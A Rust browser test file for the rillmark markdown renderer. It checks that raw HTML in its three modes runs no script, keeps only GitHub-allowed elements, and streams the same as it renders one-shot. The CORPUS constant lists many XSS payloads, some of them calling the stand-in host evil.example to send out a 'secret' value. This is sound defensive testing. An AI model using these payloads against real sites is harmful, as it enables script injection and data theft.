//! Raw HTML without surprises (issue 15), in a real browser (headless Chromium and Firefox through build.sh): in the
//! three `html` modes no content script ever runs and no event handler is ever set, at any intermediate state; the
//! CommonMark and GFM spec examples render in trusted mode with no page error and no script run; sanitize mode keeps
//! what GitHub keeps; streamed equals one-shot in each mode.
//!
//! Payloads push to `window.__hits`; `tests/js/html_fixtures.js` counts them and page errors, and checks the DOM with
//! its own list of script-capable elements and attributes (written apart from src/html_policy.rs).

#![cfg(target_arch = "wasm32")]

use js_sys::{Object, Reflect};
use rillmark::options::RenderOptions;
use rillmark::web::Renderer;
use wasm_bindgen::prelude::*;
use wasm_bindgen_futures::JsFuture;
use wasm_bindgen_test::*;
use web_sys::Element;

wasm_bindgen_test_configure!(run_in_browser);

mod web_support;
use web_support::*;

#[wasm_bindgen(module = "/tests/js/engine_fixtures.js")]
extern "C" {
    #[wasm_bindgen(js_name = installRequestDetector)]
    fn install_request_detector(allowed_image_origins: &js_sys::Array);
    #[wasm_bindgen(js_name = requestsTo)]
    fn requests_to(needle: &str) -> u32;
}

#[wasm_bindgen(module = "/tests/js/html_fixtures.js")]
extern "C" {
    #[wasm_bindgen(js_name = hitCount)]
    fn hit_count() -> i32;
    #[wasm_bindgen(js_name = hitLog)]
    fn hit_log() -> String;
    #[wasm_bindgen(js_name = pageErrorCount)]
    fn page_error_count() -> u32;
    #[wasm_bindgen(js_name = pageErrorLog)]
    fn page_error_log() -> String;
    #[wasm_bindgen(js_name = scriptableNodes)]
    fn scriptable_nodes(root: &Element, allowed: &str) -> String;
    #[wasm_bindgen(js_name = shownHtml)]
    fn shown_html(root: &Element) -> String;
    #[wasm_bindgen(js_name = trustedOracle)]
    fn trusted_oracle(html: &str) -> String;
    #[wasm_bindgen(js_name = runControlPayload)]
    fn run_control_payload() -> js_sys::Promise;
}

/// The three modes, as the `html` option names them.
const MODES: [&str; 3] = ["text", "sanitize", "trusted"];

fn options(pairs: &[(&str, JsValue)]) -> JsValue {
    let object = Object::new();
    for (key, value) in pairs {
        Reflect::set(&object, &(*key).into(), value).unwrap();
    }
    object.into()
}

fn html_mode(mode: &str) -> JsValue {
    options(&[("html", mode.into())])
}

fn renderer(container: &Element, options: JsValue) -> Renderer {
    Renderer::new(container.clone().into(), options)
        .unwrap_or_else(|error| panic!("options should be accepted: {error:?}"))
}

fn finish(r: &Renderer) {
    let outcome = r.finish().expect("finish() should end the written answer");
    let repairs = Reflect::get(&outcome, &"finishRepairs".into()).ok().and_then(|v| v.as_f64());
    assert_eq!(repairs, Some(0.0), "the verified finish should repair nothing");
}

async fn settle() {
    JsFuture::from(quiesce(3, 50)).await.expect("quiesce should not reject");
}

/// The element names a mode may build ("" for any): sanitize mode's allowlist plus rillmark's own markdown output;
/// text mode only the latter.
fn allowed_names(mode: &str) -> String {
    let own = rillmark::markdown::render::SAFE_TAGS.iter().copied();
    match mode {
        "text" => own.collect::<Vec<_>>().join(","),
        "sanitize" => own
            .chain(rillmark::html_policy::GITHUB_ELEMENTS.iter().copied())
            .chain(["rillmark-html"])
            .collect::<Vec<_>>()
            .join(","),
        _ => String::new(),
    }
}

/// What was true before a check: hits and page errors so far (earlier tests share the page).
struct Baseline {
    hits: i32,
    errors: u32,
}

impl Baseline {
    fn now() -> Baseline {
        Baseline { hits: hit_count(), errors: page_error_count() }
    }

    #[track_caller]
    fn assert_nothing_ran(&self, context: &str) {
        assert_eq!(hit_count(), self.hits, "no content script or handler should have run {context}: {}", hit_log());
        assert_eq!(
            page_error_count(),
            self.errors,
            "no page error should have happened {context}: {}",
            page_error_log()
        );
    }
}

#[wasm_bindgen_test]
async fn the_hit_counter_sees_a_handler_that_runs() {
    // Positive control for every "nothing ran" assertion below: a handler inserted the old way does run and count.
    let before = hit_count();
    JsFuture::from(run_control_payload()).await.unwrap();
    assert_eq!(hit_count(), before + 1, "the control payload's onerror should have pushed one hit: {}", hit_log());
}

/// The last 60 characters of `text`, for failure messages.
fn tail(text: &str) -> &str {
    let start = text.char_indices().rev().nth(59).map_or(0, |(at, _)| at);
    &text[start..]
}

/// Every form of script injection and exfiltration through raw HTML we know of, including issue 15's reproductions.
/// Payloads that run push to `window.__hits`; exfiltration goes to `evil.example`.
const CORPUS: &[&str] = &[
    "Intro text.\n\n",
    "<div>\n<script>__hits.push('script in div')</script>\nmore window text</div>\n\n",
    "<script>__hits.push('script block')</script>\n\n",
    "Inline <script>__hits.push(\"script inline\")</script> here.\n\n",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n\n",
    "<div><script/x>__hits.push('slash')//</script></div>\n\n",
    "<iframe srcdoc=\"<script>parent.__hits.push('srcdoc')</script>\"></iframe>\n\n",
    "<iframe src=\"javascript:parent.__hits.push('iframe js')\"></iframe>\n\n",
    "<svg onload=\"__hits.push('svg')\"><circle r=\"1\"/><script>__hits.push('svg script')</script></svg>\n\n",
    "<svg><a xlink:href=\"javascript:__hits.push('xlink')\"><text>x</text></a>\
     <animate attributeName=\"href\" values=\"javascript:__hits.push('animate')\"/>\
     <set attributeName=\"onmouseover\" to=\"__hits.push('set')\"/></svg>\n\n",
    "<img src=x onerror=\"__hits.push('img')\">\n\n",
    "Inline <img src=\"https://evil.example/inline.png?q=secret\" onerror=\"__hits.push('img2')\"> img.\n\n",
    "<a href=\"javascript:__hits.push('a')\">raw anchor</a> <a href=\"&#106;ava&#x09;script:__hits.push('a2')\">b</a>\n\n",
    "<a href=\"JaVaScRiPt:__hits.push('a3')\">c</a> <a href=\"data:text/html,<script>alert(1)</script>\">d</a>\n\n",
    "<div onclick=\"__hits.push('div')\" onmouseover=\"x()\">hover me</div>\n\n",
    "<details open ontoggle=\"__hits.push('toggle')\"><summary>s</summary>body</details>\n\n",
    "<input autofocus onfocus=\"__hits.push('focus')\"> <video src=x onerror=\"__hits.push('video')\"></video>\n\n",
    "<body onload=\"__hits.push('body')\"><object data=\"javascript:__hits.push('object')\"></object>\
     <embed src=\"javascript:__hits.push('embed')\">\n\n",
    "<form action=\"javascript:__hits.push('form')\"><button formaction=\"javascript:__hits.push('fa')\">go</button></form>\n\n",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"__hits.push('mxss')\"></style></mglyph></table></mtext></math>\n\n",
    "<noscript><p title=\"</noscript><img src=x onerror=__hits.push('noscript')>\"></noscript>\n\n",
    "<template><img src=x onerror=\"__hits.push('template')\"></template>\n\n",
    "<base href=\"javascript:__hits.push('base')//\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:__hits.push(1)\">\n\n",
    "<style>@import url(https://evil.example/style.css);</style>\n\n",
    "Text <b onmouseover=\"__hits.push('b')\">bold</b> <span style=\"color:red\">s</span>\n\n",
    "[a](javascript:__hits.push('link')) ![x](https://evil.example/?q=secret)\n\n",
    "<!-- <script>__hits.push('comment')</script> -->\n\n",
    "<![CDATA[<script>__hits.push('cdata')</script>]]>\n\n",
    "| <img src=x onerror=\"__hits.push('cell')\"> | a<br>b |\n|---|---|\n| <script>__hits.push('td')</script> | c |\n\n",
    "> <iframe src=https://evil.example/q></iframe>\n\n",
    "Unclosed <img src=x onerror=\"__hits.push('unclosed')\" and <a href=\"javascript:alert(1)\n\n",
    "<scr",
    "ipt>__hits.push('split')</scr",
    "ipt>\n\nEnd <img src=x onerror=__hits.push('end')",
];

/// Streams `corpus` in pieces of `step` characters with a flush after each in `mode`, checking every intermediate
/// DOM and the final one.
async fn stream_checked(corpus: &str, mode: &str, step: usize, gfm: bool) -> Element {
    let container = make_container();
    let r = renderer(&container, options(&[("html", mode.into()), ("gfm", gfm.into())]));
    let allowed = allowed_names(mode);
    let baseline = Baseline::now();
    let chars: Vec<(usize, char)> = corpus.char_indices().collect();
    for piece in chars.chunks(step) {
        let (start, end) = (piece[0].0, piece.last().map_or(0, |(at, c)| at + c.len_utf8()));
        r.write(&corpus[start..end]).expect("write() should accept markdown");
        r.flush();
        let problems = scriptable_nodes(&container, &allowed);
        assert!(problems.is_empty(), "{mode}: after {end} chars ({:?}…): {problems}", tail(&corpus[..end]));
        baseline.assert_nothing_ran(&format!("in {mode} mode after {:?}", tail(&corpus[..end])));
    }
    finish(&r);
    settle().await;
    let problems = scriptable_nodes(&container, &allowed);
    assert!(problems.is_empty(), "{mode}: the final DOM should hold nothing scriptable: {problems}");
    let one_shot = make_container();
    let r = renderer(&one_shot, options(&[("html", mode.into()), ("gfm", gfm.into())]));
    r.write(corpus).unwrap();
    finish(&r);
    assert_eq!(container.inner_html(), one_shot.inner_html(), "{mode}, by {step}: streamed should equal one-shot");
    one_shot.remove();
    settle().await;
    baseline.assert_nothing_ran(&format!("in {mode} mode after the end"));
    container
}

#[wasm_bindgen_test]
async fn the_corpus_streamed_char_by_char_runs_no_script_in_any_mode() {
    install_request_detector(&js_sys::Array::new());
    let corpus = CORPUS.concat();
    for mode in MODES {
        let requests_before = requests_to("evil.example");
        let container = stream_checked(&corpus, mode, 1, true).await;
        if mode != "trusted" {
            // Trusted content may load what it names; the other modes fetch nothing the image policy blocks.
            let requests = requests_to("evil.example") - requests_before;
            assert_eq!(requests, 0, "{mode}: no request should leave for evil.example");
        }
        if mode == "text" {
            assert_eq!(count_selector(&container, "rillmark-html, b, details, svg"), 0, "text mode builds no raw HTML");
            assert!(
                container.text_content().unwrap_or_default().contains("<script>__hits.push('script block')</script>"),
                "text mode shows raw HTML as text"
            );
        }
        if mode == "trusted" {
            assert!(count_selector(&container, "details[open] > summary") >= 1, "trusted keeps <details open>");
            assert!(count_selector(&container, "div") >= 3, "trusted keeps its divs: {}", outline(&container));
        }
        container.remove();
    }
}

#[wasm_bindgen_test]
async fn the_corpus_streamed_three_chars_at_a_time_without_gfm_runs_no_script() {
    // Without the GFM tag filter `<script>` reaches the HTML parser in sanitize and trusted modes: only the walk
    // keeps it out. Three characters at a time is issue 15's reproduction (17 runs of one script before).
    let corpus = CORPUS.concat();
    for mode in MODES {
        stream_checked(&corpus, mode, 3, false).await.remove();
    }
}

/// A spec test file's examples: (number, markdown).
fn spec_examples(json: &str) -> Vec<(u64, String)> {
    let value: serde_json::Value = serde_json::from_str(json).expect("the spec file should be JSON");
    value
        .as_array()
        .expect("an array of examples")
        .iter()
        .map(|e| (e["example"].as_u64().unwrap_or(0), e["markdown"].as_str().unwrap_or("").to_owned()))
        .collect()
}

/// Renders every example in trusted mode, one-shot and streamed three characters at a time; nothing may run and
/// nothing scriptable may appear. Returns the examples whose shown DOM differs from the oracle (comrak's HTML parsed
/// inertly, minus what trusted mode never builds).
async fn spec_in_trusted_mode(json: &str, gfm: bool) -> Vec<(u64, String, String)> {
    let opts = RenderOptions { gfm, trusted: true, ..RenderOptions::default() };
    let mut differing = Vec::new();
    for (number, markdown) in spec_examples(json) {
        let baseline = Baseline::now();
        let container = make_container();
        let r = renderer(&container, options(&[("html", "trusted".into()), ("gfm", gfm.into())]));
        r.write(&markdown).unwrap();
        finish(&r);
        let problems = scriptable_nodes(&container, "");
        assert!(problems.is_empty(), "example {number}: nothing scriptable should be built: {problems}");
        baseline.assert_nothing_ran(&format!("for example {number}"));
        let expected = trusted_oracle(&rillmark::markdown::render::render(&markdown, &opts).to_html());
        let one_shot = shown_html(&container);
        if one_shot != expected {
            differing.push((number, one_shot.clone(), expected));
        }

        let streamed = make_container();
        let r = renderer(&streamed, options(&[("html", "trusted".into()), ("gfm", gfm.into())]));
        let chars: Vec<(usize, char)> = markdown.char_indices().collect();
        for piece in chars.chunks(3) {
            let (start, end) = (piece[0].0, piece.last().map_or(0, |(at, c)| at + c.len_utf8()));
            r.write(&markdown[start..end]).unwrap();
            r.flush();
            let problems = scriptable_nodes(&streamed, "");
            assert!(problems.is_empty(), "example {number} after {end} bytes: {problems}");
        }
        finish(&r);
        baseline.assert_nothing_ran(&format!("for example {number}, streamed"));
        assert_eq!(shown_html(&streamed), one_shot, "example {number}: streamed should equal one-shot");
        container.remove();
        streamed.remove();
    }
    settle().await;
    differing
}

#[wasm_bindgen_test]
async fn the_commonmark_spec_in_trusted_mode_runs_no_script_and_matches_comrak() {
    let baseline = Baseline::now();
    let differing = spec_in_trusted_mode(include_str!("data/commonmark-0.31.2.json"), false).await;
    baseline.assert_nothing_ran("across the CommonMark spec, after load and error events");
    let numbers: Vec<u64> = differing.iter().map(|(n, _, _)| *n).collect();
    assert!(
        differing.is_empty(),
        "CommonMark examples whose DOM differs from comrak's HTML: {numbers:?}; first (shown, expected): {:?}",
        differing.first()
    );
}

#[wasm_bindgen_test]
async fn the_gfm_spec_extensions_in_trusted_mode_run_no_script_and_match_comrak() {
    let baseline = Baseline::now();
    let differing = spec_in_trusted_mode(include_str!("data/gfm-0.29-extensions.json"), true).await;
    baseline.assert_nothing_ran("across the GFM extension examples, after load and error events");
    let numbers: Vec<u64> = differing.iter().map(|(n, _, _)| *n).collect();
    assert!(
        differing.is_empty(),
        "GFM examples whose DOM differs from comrak's HTML: {numbers:?}; first (shown, expected): {:?}",
        differing.first()
    );
}

/// Renders `markdown` one-shot in sanitize mode (with `extra` options) and returns the container.
fn sanitized(markdown: &str, extra: &[(&str, JsValue)]) -> Element {
    let container = make_container();
    let mut pairs = vec![("html", JsValue::from("sanitize"))];
    pairs.extend(extra.iter().cloned());
    let r = renderer(&container, options(&pairs));
    r.write(markdown).unwrap();
    finish(&r);
    container
}

#[wasm_bindgen_test]
fn sanitize_mode_keeps_what_github_renders() {
    // GitHub's documented allowlist: line breaks in table cells, superscript, subscript, keys, disclosure widgets.
    let table = sanitized("| a | b |\n|---|---|\n| one<br>two | x |\n", &[]);
    assert_eq!(count_selector(&table, "td > br"), 1, "a <br> in a cell is a <br> in the <td>: {}", outline(&table));
    let inline = sanitized("H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, <ins>new</ins>\n", &[]);
    for (selector, count) in [("sub", 1), ("sup", 1), ("kbd", 2), ("ins", 1)] {
        assert_eq!(count_selector(&inline, selector), count, "<{selector}> should be kept: {}", outline(&inline));
    }
    let details = sanitized("<details>\n<summary>More</summary>\n\nBody **bold**\n\n</details>\n", &[]);
    assert_eq!(count_selector(&details, "details > summary"), 1, "details keeps its summary: {}", outline(&details));
    assert_eq!(count_selector(&details, "details strong"), 1, "markdown inside details renders: {}", outline(&details));
}

#[wasm_bindgen_test]
fn sanitize_mode_drops_what_github_drops() {
    let c = sanitized("<div style=\"position:fixed\" class=\"btn\" id=\"login\" title=\"t\">z</div>\n", &[]);
    assert!(c.inner_html().contains("<div title=\"t\">z</div>"), "style, class and id are dropped: {}", outline(&c));
    let c = sanitized("<font color=red>red</font> <u>under</u> <form><input name=q value=secret></form>\n", &[]);
    assert_eq!(count_selector(&c, "font, u, form, input"), 0, "elements off the list go: {}", outline(&c));
    assert!(c.text_content().unwrap_or_default().contains("red under"), "their text stays: {}", outline(&c));
    let c = sanitized("<a href=\"javascript:alert(1)\" title=\"x\">x</a> <a href=\"https://ok.test/\">y</a>\n", &[]);
    assert_eq!(count_selector(&c, "a[href]"), 1, "only the http(s) link keeps its href: {}", outline(&c));
    let c = sanitized("<a href=\"https://ok.test/\" rel=\"opener\">y</a>\n", &[]);
    assert_eq!(
        count_selector(&c, "a[href][rel='noopener noreferrer']"),
        1,
        "a raw link gets the rel every markdown link gets: {}",
        outline(&c)
    );
    let c = sanitized("<style>p{}</style>\n\n<textarea>t</textarea>\n", &[("gfm", false.into())]);
    assert_eq!(c.text_content().unwrap_or_default().trim(), "", "style and textarea go with their content");
}

#[wasm_bindgen_test]
fn sanitize_mode_images_follow_the_image_policy() {
    let blocked = sanitized("<img src=\"https://evil.example/a.png?q=secret\" alt=\"cat\">\n", &[]);
    assert_eq!(count_selector(&blocked, "img"), 0, "blocked by default: {}", outline(&blocked));
    assert_eq!(
        count_selector(&blocked, "span.rillmark-image[data-src='https://evil.example/a.png?q=secret']"),
        1,
        "a placeholder like a markdown image's: {}",
        outline(&blocked)
    );
    assert_eq!(blocked.text_content().unwrap_or_default().trim(), "cat", "the placeholder shows the alt text");
    let allowed = sanitized("<img src=\"https://cdn.test/a.png\" alt=\"cat\">\n", &[("images", "allow".into())]);
    assert_eq!(count_selector(&allowed, "img[src='https://cdn.test/a.png'][alt='cat']"), 1, "{}", outline(&allowed));
}

#[wasm_bindgen_test]
fn the_gfm_tag_filter_cannot_be_stepped_around() {
    for mode in ["sanitize", "trusted"] {
        let container = make_container();
        let r = renderer(&container, html_mode(mode));
        r.write("<div><script/x>__hits.push(1)//</div>\n\nand <title/x>t\n").unwrap();
        finish(&r);
        let text = container.text_content().unwrap_or_default();
        assert!(text.contains("<script/x>__hits.push(1)//"), "{mode}: the filtered tag shows as text: {text:?}");
        container.remove();
    }
}

#[wasm_bindgen_test]
fn trusted_mode_equals_unsafe_true() {
    let markdown = "<details open>\n<summary>S</summary>\n\n*body* <b onclick=x()>b</b>\n\n</details>\n\n[j](javascript:x) <a href=\"tel:1\">t</a>\n";
    let render = |options: JsValue| {
        let container = make_container();
        let r = renderer(&container, options);
        r.write(markdown).unwrap();
        finish(&r);
        let html = container.inner_html();
        container.remove();
        html
    };
    let by_mode = render(html_mode("trusted"));
    assert_eq!(by_mode, render(options(&[("unsafe", true.into())])), "html: \"trusted\" is unsafe: true");
    assert!(by_mode.contains("<a href=\"tel:1\">t</a>"), "trusted keeps any non-script URL: {by_mode}");
    assert!(!by_mode.contains("onclick"), "but never a handler: {by_mode}");
}

#[wasm_bindgen_test]
fn a_wrong_html_option_throws_a_type_error_naming_it() {
    let container = make_container();
    for (options, needle) in [
        (html_mode("sanitise"), "option \"html\" must be \"text\", \"sanitize\" or \"trusted\""),
        (options(&[("html", 1.into())]), "option \"html\""),
        (options(&[("html", "text".into()), ("unsafe", true.into())]), "\"unsafe\" and \"html\" disagree"),
        (options(&[("html", "trusted".into()), ("unsafe", false.into())]), "\"unsafe\" and \"html\" disagree"),
    ] {
        let error = Renderer::new(container.clone().into(), options).err().expect("a wrong html option should throw");
        assert!(error.is_instance_of::<js_sys::TypeError>(), "a TypeError: {error:?}");
        let message = Reflect::get(&error, &"message".into()).unwrap().as_string().unwrap_or_default();
        assert!(message.contains(needle), "the message should say {needle:?}: {message}");
    }
    container.remove();
}

/// A small seeded generator for split points (xorshift).
struct Splits(u64);

impl Splits {
    fn next_below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % n as u64) as usize
    }
}

#[wasm_bindgen_test]
async fn streamed_equals_one_shot_in_every_mode() {
    let markdown = "Intro with <sup>1</sup> and <kbd>K</kbd>.\n\n\
                    <details>\n<summary>More</summary>\n\nBody with **bold** and <img src=x onerror=__hits.push(1)>.\n\n\
                    - item <b>b</b>\n- item two\n\n</details>\n\n\
                    | a | b |\n|---|---|\n| x<br>y | <em>z</em> |\n\n\
                    <div align=\"center\">\n\n![img](https://cdn.test/i.png)\n\n</div>\n\nEnd <a href=\"https://x.test/\">x</a>.\n";
    let baseline = Baseline::now();
    for mode in MODES {
        let one_shot = {
            let container = make_container();
            let r = renderer(&container, html_mode(mode));
            r.write(markdown).unwrap();
            finish(&r);
            let html = container.inner_html();
            container.remove();
            html
        };
        for seed in 1..=8u64 {
            let mut splits = Splits(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
            let container = make_container();
            let r = renderer(&container, html_mode(mode));
            let mut at = 0;
            while at < markdown.len() {
                let mut end = (at + 1 + splits.next_below(12)).min(markdown.len());
                while !markdown.is_char_boundary(end) {
                    end += 1;
                }
                r.write(&markdown[at..end]).unwrap();
                r.flush();
                at = end;
            }
            finish(&r);
            assert_eq!(container.inner_html(), one_shot, "{mode}, seed {seed}: streamed should equal one-shot");
            container.remove();
        }
    }
    settle().await;
    baseline.assert_nothing_ran("while streaming the mixed document");
}

#[wasm_bindgen_test]
fn raw_html_is_built_in_place_with_no_holder() {
    for mode in ["sanitize", "trusted"] {
        let table = make_container();
        let r = renderer(&table, html_mode(mode));
        r.write("| a | b |\n|---|---|\n| one<br>two | x |\n\n1. one <b>b</b>\n2. two\n").unwrap();
        finish(&r);
        assert_eq!(count_selector(&table, "rillmark-html"), 0, "{mode}: no holder element: {}", outline(&table));
        assert_eq!(
            count_selector(&table, ":scope > table > tbody > tr > td > br"),
            1,
            "{mode}: a <br> in a cell is a <br> in the <td>, the table right in the container: {}",
            outline(&table)
        );
        assert_eq!(count_selector(&table, ":scope > ol > li"), 2, "{mode}: `ol > li` matches: {}", outline(&table));
        assert_eq!(count_selector(&table, ":scope > ol > li > b"), 1, "{mode}: the <b> is in its item");
        table.remove();
    }
}

#[wasm_bindgen_test]
fn a_details_block_shows_its_body_growing_while_it_streams() {
    for mode in ["sanitize", "trusted"] {
        let container = make_container();
        let r = renderer(&container, html_mode(mode));
        r.write("<details open>\n<summary>More</summary>\n\nfirst paragraph\n\n").unwrap();
        r.flush();
        let shown =
            |c: &Element| c.query_selector("details").unwrap().and_then(|d| d.text_content()).unwrap_or_default();
        assert!(
            shown(&container).contains("first paragraph"),
            "{mode}: the body so far shows: {}",
            outline(&container)
        );
        r.write("second paragraph\n\n").unwrap();
        r.flush();
        assert!(shown(&container).contains("second paragraph"), "{mode}: and grows: {}", outline(&container));
        r.write("</details>\n\nAfter.\n").unwrap();
        finish(&r);
        assert_eq!(
            count_selector(&container, ":scope > details[open] > summary"),
            1,
            "{mode}: {}",
            outline(&container)
        );
        assert_eq!(count_selector(&container, ":scope > details > p"), 2, "{mode}: {}", outline(&container));
        container.remove();
    }
}

#[wasm_bindgen_test]
fn a_growing_paragraph_with_inline_html_keeps_its_nodes() {
    for mode in ["sanitize", "trusted"] {
        let container = make_container();
        let r = renderer(&container, html_mode(mode));
        r.write("Some <b>bold</b> and <img src=\"data:,\" alt=\"i\"> te").unwrap();
        r.flush();
        let b = container.query_selector("b").unwrap().expect("the <b> should be built");
        let p = container.query_selector("p").unwrap().expect("the paragraph should be built");
        r.write("xt that goes on and <i>on</i>").unwrap();
        r.flush();
        assert!(b.is_connected(), "{mode}: the <b> already shown should stay in the page: {}", outline(&container));
        assert!(p.is_connected(), "{mode}: so should its paragraph");
        assert!(p.text_content().unwrap_or_default().contains("goes on and on"), "{mode}: {}", outline(&container));
        r.write(".\n\nNext.\n").unwrap();
        finish(&r);
        assert!(b.is_connected() && p.is_connected(), "{mode}: and after the end: {}", outline(&container));
        container.remove();
    }
}
